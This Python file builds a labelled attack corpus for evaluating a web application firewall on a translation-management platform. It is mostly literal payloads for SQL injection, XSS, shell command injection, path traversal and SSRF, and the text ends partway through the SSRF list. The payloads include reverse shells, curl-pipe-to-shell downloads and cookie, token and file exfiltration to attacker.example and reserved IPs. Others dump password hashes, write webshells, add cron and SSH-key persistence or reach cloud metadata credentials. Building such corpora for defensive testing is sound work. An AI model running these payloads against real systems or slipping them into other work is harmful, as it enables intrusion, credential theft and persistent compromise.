"""Held-out ATTACK corpus for the WAF: localization / translation-management platform.

Each value is a working payload for a vulnerable translation-management backend that
puts the field where the class says: concatenated into SQL (string or numeric
context), into a shell command line (hunspell/msgfmt/git/ImageMagick calls with a
locale code, file name or commit message), into a file path (resource bundles,
zip entries, exports), into a URL the server fetches (TM import, webhooks,
screenshots), into a server-side template / expression / deserializer / XML parser /
CSV export, into HTML without escaping (translation preview, review thread), into a
Mongo/Lucene query, into a log line / HTTP header / mail header, or into an LDAP
filter / XPath expression over TMX/TBX data.

Most payloads are hidden in the platform's own notations: ICU MessageFormat, printf
and Python placeholders, gettext msgid/msgstr, XLIFF <target>/<g>, Android
strings.xml, iOS .strings, JSON/YAML bundles, locale codes and key paths.

Class: "<context>-<technique>[+<encoding>]"; "plain-" classes carry no domain text.
All values are hand-written literals or small templates over hand-written pools.
Attacker infrastructure: attacker.example, *.attacker.example, 203.0.113.0/24,
198.51.100.0/24.  Secrets are fake placeholders.  Output: attacks.jsonl.

Python 3.11, standard library only, deterministic.
"""

import json
import random
from pathlib import Path

SEED = 6502
ID_PREFIX = "ha65"

# Target size per category (literals first, templates fill the rest).
TARGETS = {
    "sqli": 78, "xss": 76, "cmdi": 72, "traversal": 52, "ssrf": 52,
    "code": 80, "nosqli": 25, "crlf": 30, "ldap-xpath": 22,
}

# ---------------------------------------------------------------------------
# SQL injection: value concatenated into a SQL statement
# ---------------------------------------------------------------------------
SQLI = [
    ("translation-union-select", "Bienvenue, %s' UNION SELECT login, password_hash FROM translators-- -"),
    ("key-path-tautology", "app.settings.title' OR '1'='1"),
    ("translation-stacked-drop", "Supprimer {0}'; DROP TABLE segments;-- "),
    ("translation-time-blind-mysql", "Speichern' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- "),
    ("locale-code-error-extractvalue", "de-DE' AND extractvalue(1, concat(0x7e, (SELECT version())))-- "),
    ("segment-id-boolean-blind", "1842 AND 1=(SELECT COUNT(*) FROM tm_units WHERE substr(target,1,1)='a')"),
    ("segment-id-time-blind-mssql", "1842; WAITFOR DELAY '0:0:7'--"),
    ("locale-code-time-blind-pg-concat", "fr' || (SELECT pg_sleep(6)) || '"),
    ("icu-union-information-schema", "{count, plural, one {# file} other {# files}}' UNION ALL SELECT NULL, table_name, NULL FROM information_schema.tables-- -"),
    ("glossary-error-cast-pg", "workspace' AND 1=CAST((SELECT string_agg(email, ',') FROM users) AS int)--"),
    ("glossary-union-select+comment-space", "Arbeitsbereich'/**/UNION/**/SELECT/**/api_key,2/**/FROM/**/project_tokens#"),
    ("gettext-msgstr-stacked-insert", "msgstr \"Guardar\"'; INSERT INTO project_members(project_id, login, role) VALUES (42, 'mallory', 'owner');-- "),
    ("plain-comment-truncation", "admin'-- "),
    ("plain-tautology-limit-offset", "' OR 1=1 LIMIT 1 OFFSET 3 -- "),
    ("translation-order-by-probe", "Termine' ORDER BY 7-- -"),
    ("review-boolean-blind-ascii", "looks fine' AND ascii(substring((SELECT password_hash FROM users WHERE login='admin'),1,1))>77-- "),
    ("locale-code-time-blind-benchmark", "ja' AND BENCHMARK(8000000, SHA1('loc'))-- "),
    ("locale-code-time-blind-pg-from", "zh-TW' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("source-union-sqlite-master", "Save' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("tm-search-heavy-join-time-blind", "Löschen%' AND (SELECT count(*) FROM segments a, segments b, segments c) > 0 AND '%'='"),
    ("locale-code-oob-oracle-dns", "fi' AND 1=utl_inaddr.get_host_address((SELECT user FROM dual)||'.attacker.example')--"),
    ("project-slug-oob-mssql-unc", "flowdesk'; EXEC master..xp_dirtree '\\\\203.0.113.45\\loot';--"),
    ("translation-union-load-file", "Abbrechen' UNION SELECT LOAD_FILE('/var/www/flowdesk/.env'), NULL-- -"),
    ("translation-union-into-outfile", "Bestätigen' UNION SELECT '<?php system($_GET[1]); ?>', 2 INTO OUTFILE '/var/www/html/l.php'-- -"),
    ("comment-stacked-copy-program-pg", "Button label.'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/x | sh';--"),
    ("glossary-error-updatexml", "Papierkorb' AND updatexml(null, concat(0x3a, (SELECT group_concat(login) FROM translators)), null)-- "),
    ("key-path-error-convert-mssql", "checkout.total' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("locale-code-json-operator-pg", "ko' OR metadata->>'role' = 'admin"),
    ("translation-error-case-division", "Fertig' AND (CASE WHEN (SELECT substr(api_token,1,1) FROM integrations LIMIT 1)='f' THEN 1 ELSE 1/0 END)=1--"),
    ("glossary-second-order-update", "Stichwort'); UPDATE users SET role='owner' WHERE login='mallory';--"),
    ("translation-insert-subquery", "Hola', 'es', (SELECT password_hash FROM users LIMIT 1))-- -"),
    ("sort-param-boolean-blind", "(CASE WHEN (SELECT substr(password_hash,1,1) FROM users WHERE login='admin')='$' THEN source ELSE target END)"),
    ("tm-search-like-boolean", "Einstellungen%' AND 'a'='a"),
    ("translation-union-select+urlenc", "Speichern%27%20UNION%20SELECT%20login%2Cpassword_hash%20FROM%20users--%20"),
    ("locale-code-tautology+double-urlenc", "de%2527%2520OR%25201%253D1--%2520"),
    ("translation-union-select+case-mix", "Écrire' uNiOn SeLeCt nUlL, sEsSiOn_ToKeN fRoM sessions-- -"),
    ("glossary-union-select-version-comment", "Ordner'/*!50000UNION*//*!50000SELECT*/ login, password_hash FROM users-- -"),
    ("translation-tautology+fullwidth-nfkc", "Guardar＇ OR 1=1-- "),
    ("key-path-hex-literal", "nav.home' OR login=0x61646d696e-- "),
    ("key-path-char-function", "nav.back' OR login=CHAR(97,100,109,105,110)-- "),
    ("locale-code-no-space-pg-sleep", "it'||(select(pg_sleep(4)))||'"),
    ("translation-tautology-tab-whitespace", "Annuleren'\tOR\t1=1--\t"),
    ("translation-union-select-newline-whitespace", "Lorem'\nUNION\nSELECT\nlogin,\npassword_hash\nFROM\nusers--\n"),
    ("gettext-msgstr-union-string-agg", "msgid \"Save\"\nmsgstr \"Guardar' UNION SELECT 1, string_agg(login||':'||password_hash, ',') FROM users--\""),
    ("xliff-target-boolean-blind-like", "<target>Startseite' AND (SELECT COUNT(*) FROM users WHERE login='admin' AND password_hash LIKE '$2b$12$a%')=1-- </target>"),
    ("icu-select-time-blind", "{gender, select, female {Elle} other {Iel}}' AND SLEEP(6)-- -"),
    ("key-path-union-secrets", "checkout.total' UNION SELECT value FROM app_secrets WHERE name='stripe_secret'-- -"),
    ("tm-search-union-select", "Löschen%' UNION SELECT source, target, password_hash FROM users-- "),
    ("project-id-union-select", "42 UNION SELECT login, password_hash, 3, 4 FROM users"),
    ("project-id-union-information-schema", "42 AND 1=2 UNION SELECT table_name, column_name FROM information_schema.columns-- "),
    ("segment-id-paren-tautology", "1842) OR (1=1"),
    ("plain-numeric-tautology", "-1 OR 1=1"),
    ("translation-union-oracle-dba-users", "Tallenna' UNION SELECT username, password FROM dba_users-- "),
    ("locale-code-time-blind-oracle", "sv' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a', 6)--"),
    ("comment-stacked-copy-from-pg", "Max 20 chars.'; CREATE TABLE loot(t text); COPY loot FROM '/etc/passwd';--"),
    ("locale-code-error-cast-setting-pg", "nl' AND 1=CAST(current_setting('data_directory') AS numeric)--"),
    ("review-stacked-xp-cmdshell", "Approved'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami';--"),
    ("glossary-error-double-query-floor", "Datei' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT user()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- "),
    ("locale-code-error-gtid-subset", "pt' AND GTID_SUBSET(CONCAT(0x7e,(SELECT database())),1)-- "),
    ("plain-having-error", "' HAVING 1=1--"),
    ("glossary-group-by-enumeration", "Ordner' GROUP BY glossary.id, glossary.term HAVING 1=1--"),
    ("translation-conditional-sleep-mysql", "Tout sélectionner' AND IF(MID(@@version,1,1)='8', SLEEP(4), 0)-- "),
    ("locale-code-conditional-sleep-pg", "uk' AND (SELECT CASE WHEN current_user='postgres' THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)=1--"),
    ("json-field-tautology+unicode-escape", "Hallo\\u0027 OR \\u00271\\u0027=\\u00271"),
    ("plain-tautology-empty-string", "' OR ''='"),
    ("plain-time-blind-hash-comment", "1' AND SLEEP(5)#"),
    ("plain-double-quote-tautology", "\" OR \"\"=\""),
    ("plain-paren-tautology", "') OR ('a'='a"),
    ("plain-stacked-pg-sleep", "';SELECT pg_sleep(5)--"),
    ("review-stacked-delete", "Looks good — ship it'); DELETE FROM reviews WHERE project_id=42;--"),
    ("translator-name-like-wildcard", "Nowak' OR author LIKE '%"),
    ("sort-param-time-blind", "id,(SELECT SLEEP(5))"),
    ("comment-insert-subquery-exfil", "Button label', (SELECT group_concat(api_key) FROM integrations), 'x')-- "),
    ("translation-tautology-backslash-escape-bypass", "Weiter\\' OR 1=1-- "),
    ("locale-code-gbk-multibyte-tautology+urlenc", "%bf%27 OR 1=1-- "),
    ("key-path-sqlite-boolean-blind", "ui.home' AND (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C'--"),
]

# ---------------------------------------------------------------------------
# XSS: value rendered into HTML (translation preview, review thread, glossary)
# ---------------------------------------------------------------------------
XSS = [
    ("translation-img-onerror", "Willkommen, <img src=x onerror=alert(document.domain)>!"),
    ("xliff-target-script-cookie-exfil", "<target>Klicken Sie <g id=\"1\">hier</g><script>fetch('https://attacker.example/c?'+document.cookie)</script></target>"),
    ("plain-svg-onload", "<svg/onload=confirm(1)>"),
    ("translation-javascript-href", "Terms & <a href=\"javascript:alert(localStorage.getItem('token'))\">Conditions</a>"),
    ("attribute-dq-breakout-event", "Guardar\" onmouseover=\"alert(1)\" x=\""),
    ("attribute-sq-breakout-autofocus", "Sauvegarder' autofocus onfocus='import(\"//attacker.example/x.js\")"),
    ("js-string-breakout", "Hola';alert(String.fromCharCode(88,83,83));//"),
    ("script-block-breakout-exfil", "</script><script>new Image().src='//attacker.example/l?c='+encodeURIComponent(document.cookie)</script>"),
    ("translation-details-ontoggle", "<details open ontoggle=\"alert(1)\">Mehr anzeigen</details>"),
    ("review-iframe-srcdoc-entity-script", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("sanitizer-mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("plain-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("translation-video-source-onerror", "Video: <video><source onerror=\"alert(1)\"></video>"),
    ("translation-javascript-href+hex-entity", "<a href=\"jav&#x61;script:alert(1)\">Hilfe</a>"),
    ("translation-javascript-href+decimal-entity", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Aide</a>"),
    ("tm-search-reflected-img+urlenc", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("plain-script+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("translation-img-onerror+js-unicode-escape", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("source-svg-animate-onbegin", "Weiter <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("comment-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("translation-form-injection-phishing", "<form action=\"https://attacker.example/phish\"><input name=pw type=password placeholder=\"Passwort bestätigen\"><button>OK</button></form>"),
    ("review-meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("translation-base-href-hijack", "<base href=\"https://attacker.example/\">Startseite"),
    ("markdown-javascript-link", "Siehe [Hilfe](javascript:alert(document.cookie))"),
    ("markdown-image-attr-breakout", "![Logo](x\" onerror=\"alert(1))"),
    ("icu-plural-img-onerror", "{count, plural, one {<img src=x onerror=alert(1)>} other {# Dateien}}"),
    ("printf-svg-onload", "%1$s <svg onload=alert(1)> %2$s"),
    ("icu-angularjs-csti", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("help-url-javascript-scheme", "javascript:alert(1)//https://help.example.com/de/billing"),
    ("help-url-data-uri", "data:text/html,<script>alert(document.domain)</script>"),
    ("xliff-ph-entity-decoded", "<target>Speichern<ph id=\"1\">&lt;img src=x onerror=alert(1)&gt;</ph></target>"),
    ("comment-style-import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("plain-svg-script", "<svg><script>alert(1)</script></svg>"),
    ("translation-svg-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">Weiter</text></a></svg>"),
    ("translation-bold-onclick", "<b onclick=\"alert(1)\">Datei</b> hochgeladen"),
    ("translation-marquee-onstart", "<marquee onstart=alert(1)>Neu!</marquee>"),
    ("glossary-textarea-autofocus", "<textarea autofocus onfocus=alert(document.cookie)>"),
    ("js-template-literal-interp", "Hallo ${alert(document.domain)}"),
    ("json-in-script-breakout", "</script><svg onload=alert(1)>"),
    ("json-field-img+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("tm-search-reflected-script+double-urlenc", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("translation-img-onerror-beacon", "<img src=x onerror=\"this.src='//attacker.example/?'+document.cookie\">"),
    ("translation-onclick-location-exfil", "<a href=\"#\" onclick=\"location='https://attacker.example/?'+document.cookie\">Mehr erfahren</a>"),
    ("translation-onerror-atob-eval", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">"),
    ("translation-img-onerror-newline-separator", "<img\nsrc=x\nonerror=alert(1)>"),
    ("plain-img-slash-separator", "<img/src/onerror=alert(1)>"),
    ("translation-javascript-href+named-entity", "<a href=\"javascript&colon;alert(1)\">Weiter</a>"),
    ("translation-javascript-href-tab-split", "<a href=\"java\tscript:alert(1)\">Weiter</a>"),
    ("plain-img-tagged-template", "<img src=x onerror=alert`1`>"),
    ("translation-svg-string-concat", "<svg onload=top['al'+'ert'](document.domain)>"),
    ("translation-onerror-throw", "<img src=x onerror=\"window.onerror=alert;throw document.domain\">"),
    ("react-html-dynamic-import", "<img src=1 onerror=import('//attacker.example/p.js')>"),
    ("review-external-script", "LGTM! <script src=\"https://attacker.example/hook.js\"></script>"),
    ("glossary-iframe-overlay", "Arbeitsbereich <iframe src=\"https://attacker.example/overlay\" style=\"position:fixed;inset:0;border:0;width:100%;height:100%\"></iframe>"),
    ("plain-attribute-breakout-svg", "\"><svg onload=alert(1)>"),
    ("plain-attribute-breakout-script", "'><script>alert(1)</script>"),
    ("translation-script-nested-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("plain-img-onerror+case-mix", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("tm-search-reflected-script+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("translation-svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("translation-onmouseenter-token-exfil", "<a href=\"https://help.example.com\" target=\"_blank\" onmouseenter=\"fetch('//attacker.example/k',{method:'POST',body:localStorage.token})\">Hilfe</a>"),
    ("plain-select-autofocus", "<select autofocus onfocus=alert(1)></select>"),
    ("plain-title-breakout", "</title><img src=x onerror=alert(1)>"),
    ("plain-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("plain-html-comment-breakout", "--><img src=x onerror=alert(1)><!--"),
    ("android-xml-cdata-img", "<string name=\"promo\"><![CDATA[<img src=x onerror=alert(1)>]]></string>"),
    ("translation-formaction-javascript", "<form><button formaction=javascript:alert(1)>Absenden</button></form>"),
    ("plain-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("tmx-seg-script", "<seg>保存<script>alert(document.cookie)</script></seg>"),
    ("gettext-msgstr-img", "msgid \"Save\"\nmsgstr \"<img src=x onerror=alert(1)>Speichern\""),
    ("strings-file-svg", "\"save_button\" = \"<svg onload=alert(1)>Sichern\";"),
    ("rtl-translation-img-onerror", "حفظ <img src=x onerror=alert(document.domain)>"),
    ("cjk-translation-details-ontoggle", "設定<details open ontoggle=alert(1)>"),
]

# ---------------------------------------------------------------------------
# Command injection: value placed in a shell command line
# ---------------------------------------------------------------------------
CMDI = [
    ("locale-code-semicolon", "de_DE; cat /etc/passwd"),
    ("locale-code-pipe-netcat", "fr_FR | nc 203.0.113.7 4444 -e /bin/sh"),
    ("locale-code-and-curl-sh", "ja_JP && curl -s http://attacker.example/i.sh | sh"),
    ("filename-backtick", "messages.po`id`"),
    ("filename-dollar-subst", "strings_$(whoami).xml"),
    ("commit-msg-dq-breakout", "Update de\"; rm -rf /srv/l10n/projects; echo \""),
    ("commit-msg-cmdsubst-exfil", "Update de translations $(curl -d @/etc/passwd http://attacker.example/u)"),
    ("locale-code-newline", "ru_RU\nwget -qO- http://203.0.113.9/x | sh"),
    ("locale-code-ifs-space", "es;cat${IFS}/etc/passwd"),
    ("locale-code-brace-expansion", "it_IT;{cat,/etc/shadow}"),
    ("locale-code-glob-path", "pt_BR;/???/?at /???/p?ss??"),
    ("locale-code-quote-split", "ko_KR;c''at /e''tc/pa''sswd"),
    ("locale-code-backslash-split", "zh_CN;w\\ho\\am\\i"),
    ("locale-code-env-substring-slash", "nl_NL;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("locale-code-pipe-sh+base64", "sv_SE;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("locale-code-printf-hex-subst", "pl_PL;$(printf '\\x69\\x64')"),
    ("locale-code-ansi-c-quoting+hex-escape", "tr_TR;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'"),
    ("repo-url-upload-pack-arg-injection", "--upload-pack=sh -c 'id>/tmp/l10n' x"),
    ("repo-url-git-ext-transport", "ext::sh -c curl% http://attacker.example/s|sh"),
    ("archive-name-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh import.sh"),
    ("locale-code-windows-ampersand", "de-DE & type C:\\Windows\\win.ini"),
    ("locale-code-windows-powershell-iex", "fr-FR | powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("locale-code-windows-certutil", "ja-JP && certutil -urlcache -f http://203.0.113.14/a.exe %TEMP%\\a.exe"),
    ("locale-code-windows-caret-split", "de & who^am^i"),
    ("export-name-bash-reverse-shell", "export.zip; bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'"),
    ("locale-code-python-reverse-shell", "de;python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.5\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("plain-or-ping-time-blind", "|| ping -c 10 127.0.0.1"),
    ("plain-semicolon-sleep", "; sleep 9 #"),
    ("plain-backtick-sleep", "`sleep 7`"),
    ("plain-dollar-subst-ifs-sleep", "$(sleep${IFS}8)"),
    ("locale-code-dns-exfil", "de; nslookup $(whoami).attacker.example"),
    ("locale-code-http-exfil-hostname", "de; curl http://attacker.example/$(hostname)"),
    ("locale-code-webshell-write", "de; echo '<?php system($_GET[0]);' > /var/www/html/p.php"),
    ("locale-code-crontab-persistence", "de; (crontab -l; echo '* * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("locale-code-ssh-key-persistence", "de && mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAFAKEPLACEHOLDERKEY attacker@attacker.example' >> ~/.ssh/authorized_keys"),
    ("locale-code-semicolon+urlenc", "de_DE%3Bcat%20%2Fetc%2Fpasswd"),
    ("locale-code-semicolon+double-urlenc", "de_DE%253Bid"),
    ("locale-code-newline+urlenc", "de_DE%0Aid"),
    ("locale-code-printenv-secret", "de;printenv AWS_SECRET_ACCESS_KEY"),
    ("source-dollar-subst-environ", "Welcome $(cat /proc/self/environ)"),
    ("commit-msg-cmdsubst-id", "Fix typo in fr.json $(id)"),
    ("pseudo-text-sq-breakout", "Impostazioni dell'; id #"),
    ("po-filename-msgfmt-chain", "de.po -o /dev/null; id"),
    ("screenshot-path-imagemagick-pipe", "|curl -s http://attacker.example/p.sh|sh"),
    ("locale-code-ifs-comma-var", "de_DE;IFS=,;c=cat,/etc/hostname;$c"),
    ("locale-code-var-concat", "de;a=who;b=ami;$a$b"),
    ("locale-code-backtick-base64-decode", "de;`echo aWQ= | base64 -d`"),
    ("locale-code-rev-here-string", "de;rev<<<'dwssap/cte/ tac'|sh"),
    ("locale-code-read-env-file", "de;head -c 400 /srv/l10n/.env"),
    ("locale-code-and+urlenc", "fr_FR%26%26whoami"),
    ("locale-code-xxd-post-exfil", "ja_JP;xxd -p /etc/hostname|curl -d @- http://attacker.example/h"),
    ("locale-code-awk-system", "de;awk 'BEGIN{system(\"id\")}'"),
    ("locale-code-php-system", "de;php -r 'system(\"id\");'"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-and-uname", "&& uname -a"),
    ("plain-dollar-subst-id", "$(id)"),
    ("locale-code-xargs-upload", "de;ls /srv/l10n | xargs -I{} curl -F f=@{} http://attacker.example/u"),
    ("locale-code-wget-post-file", "de;wget --post-file=/etc/passwd http://attacker.example/"),
    ("locale-code-windows-timeout", "de & timeout /t 9"),
    ("source-netcat-subst", "Save $(nc -e /bin/sh 198.51.100.20 4444)"),
    ("commit-msg-dq-and-id", "de_DE\" && id && echo \""),
    ("locale-code-glob-binary", "de;/b??/s? -c id"),
    ("po-filename-mail-exfil", "po/de.po; mail -s loot drop@attacker.example < /etc/passwd"),
    ("plain-dig-dns-exfil", "$(dig +short $(whoami).x.attacker.example)"),
    ("icu-cmdsubst-aws-creds", "{count} files; curl http://attacker.example/?c=$(cat ~/.aws/credentials|base64 -w0)"),
    ("locale-code-powershell-enc+base64-utf16", "de | powershell -nop -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAfABpAGUAeAA="),
    ("gettext-msgstr-backtick", "msgid \"Export\"\nmsgstr \"Exportieren`curl -s attacker.example/e|sh`\""),
    ("branch-name-semicolon-ifs", "l10n/de;curl${IFS}attacker.example/b|sh"),
]

# ---------------------------------------------------------------------------
# Path traversal: value used as (part of) a file path
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("plain-relative-dotdot", "../../../../etc/passwd"),
    ("resource-path-dotdot-shadow", "locales/../../../../etc/shadow"),
    ("resource-path-dotdot-environ", "res/values-de/../../../../../../proc/self/environ"),
    ("locale-dir-dotdot-config", "de/../../../config/database.yml"),
    ("resource-path-null-byte+urlenc", "../../../etc/passwd%00.json"),
    ("resource-path-dotdot+urlenc-slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("resource-path-dotdot+double-urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("resource-path-dotdot+urlenc-dot", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("resource-path-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("resource-path-strip-once-bypass", "....//....//....//etc/passwd"),
    ("resource-path-windows-backslash", "..\\..\\..\\Windows\\win.ini"),
    ("resource-path-windows+urlenc-backslash", "..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("resource-path-absolute-windows", "C:\\inetpub\\wwwroot\\web.config"),
    ("resource-path-file-then-dotdot", "locales/fr.json/../../../../../root/.ssh/id_rsa"),
    ("resource-path-bash-history", "../../../../home/l10n/.bash_history"),
    ("resource-path-git-config", "../../.git/config"),
    ("resource-path-nginx-log", "../../../../var/log/nginx/access.log"),
    ("resource-path-proc-cwd", "../../../../proc/self/cwd/config/secrets.yml"),
    ("zip-entry-slip-template", "../../../../srv/l10n/app/templates/base.html"),
    ("zip-entry-slip-cron", "locales/de/../../../../../../etc/cron.d/l10n"),
    ("resource-path-tomcat-path-param", "..;/..;/..;/WEB-INF/web.xml"),
    ("resource-path-webinf-properties", "src/main/resources/../../../WEB-INF/classes/application.properties"),
    ("resource-path-absolute-prefix-bypass", "/var/www/flowdesk/../../../etc/passwd"),
    ("strings-path-macos-master-passwd", "ja.lproj/../../../../../../private/etc/master.passwd"),
    ("bundle-path-dotdot-group", "messages_de.properties/../../../../../../etc/group"),
    ("resource-path-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("locale-code-dotdot", "de-DE/../../../../../etc/passwd"),
    ("locale-dir-dotdot-app-config", "../../../../../../opt/flowdesk/config/application-prod.yml"),
    ("resource-path-half-encoded-dot+urlenc", ".%2e/.%2e/.%2e/etc/passwd"),
    ("resource-path-dot-slash-strip-bypass", "..././..././..././etc/passwd"),
    ("plain-deep-dotdot", "../../../../../../../../../../../../etc/passwd"),
    ("resource-path-dot-segment-mix", "locales/./../../.././../etc/passwd"),
    ("resource-path-unc-share", "\\\\203.0.113.20\\share\\de.json"),
    ("plain-proc-fd", "/proc/self/fd/3"),
    ("resource-path-double-slash", "..//..//..//etc//passwd"),
    ("resource-path-mixed-separators", "../\\../\\../etc/passwd"),
    ("resource-path-proc-root", "/proc/self/root/etc/passwd"),
    ("resource-path-slash+overlong-utf8-3byte", "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
    ("resource-path-dotdot+fullwidth-nfkc", "．．／．．／．．／etc／passwd"),
    ("resource-path-aws-credentials", "/srv/l10n/projects/flowdesk/../../../../root/.aws/credentials"),
    ("resource-path-dotenv", "../../../../app/.env"),
    ("xliff-original-attr", "<file original=\"../../../../etc/passwd\" source-language=\"en\" target-language=\"de\" datatype=\"plaintext\">"),
    ("locale-code-null-byte+urlenc", "de/../../../../../../etc/passwd%00"),
    ("resource-path-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("android-res-path-gradle-secrets", "res/values-de/../../../../../../../home/ci/.gradle/gradle.properties"),
    ("export-filename-dotdot-overwrite", "../../../../var/www/html/index.html"),
    ("screenshot-path-absolute-ssh-key", "/root/.ssh/id_ed25519"),
    ("resource-path-windows+iis-unicode", "..%u2216..%u2216..%u2216Windows%u2216win.ini"),
]

# ---------------------------------------------------------------------------
# SSRF: value is a URL the server fetches (TM import, webhook, screenshot)
# ---------------------------------------------------------------------------
SSRF = [
    ("import-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("import-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("webhook-consul-agent", "http://127.0.0.1:8500/v1/agent/self"),
    ("import-url-gopher-redis-cron", "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20k%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2Fcrontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("webhook-loopback+decimal-ip", "http://2130706433/admin"),
    ("webhook-spark-ui", "http://127.0.0.1:4040/api/v1/applications"),
    ("webhook-envoy-admin", "http://127.0.0.1:15000/config_dump"),
    ("webhook-loopback+short-ip", "http://127.1/server-status"),
    ("import-url-ipv6-loopback-actuator", "http://[::1]:8080/actuator/env"),
    ("import-url-metadata+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("import-url-zero-address-elastic", "http://0.0.0.0:9200/_cat/indices"),
    ("import-url-dns-alias-metadata", "http://169.254.169.254.attacker.example/latest/meta-data/"),
    ("import-url-open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("screenshot-url-userinfo-confusion", "http://help.example.com@127.0.0.1:8080/"),
    ("screenshot-url-fragment-confusion", "http://127.0.0.1#@help.example.com/"),
    ("webhook-subdomain-confusion", "http://help.example.com.attacker.example/"),
    ("plain-file-scheme", "file:///etc/passwd"),
    ("import-url-file-windows", "file://localhost/c:/windows/win.ini"),
    ("import-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("webhook-rabbitmq-admin", "http://localhost:15672/api/users"),
    ("import-url-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook-internal-router", "http://192.168.0.1/cgi-bin/luci"),
    ("import-url-docker-api", "http://172.17.0.1:2375/containers/json"),
    ("import-url-etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("tm-import-jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("tm-import-netdoc-scheme", "netdoc:///etc/passwd"),
    ("webhook-loopback+enclosed-digits", "http://①②⑦.⓪.⓪.①/"),
    ("screenshot-url-backslash-confusion", "http://127.0.0.1:80\\@help.example.com/"),
    ("plain-zero-host", "http://0/"),
    ("import-url-metadata+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data"),
    ("import-url-loopback+urlenc-host", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("import-url-aws-user-data", "http://169.254.169.254/latest/user-data"),
    ("import-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("import-url-aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("import-url-aws-alias-hostname", "http://instance-data/latest/meta-data/"),
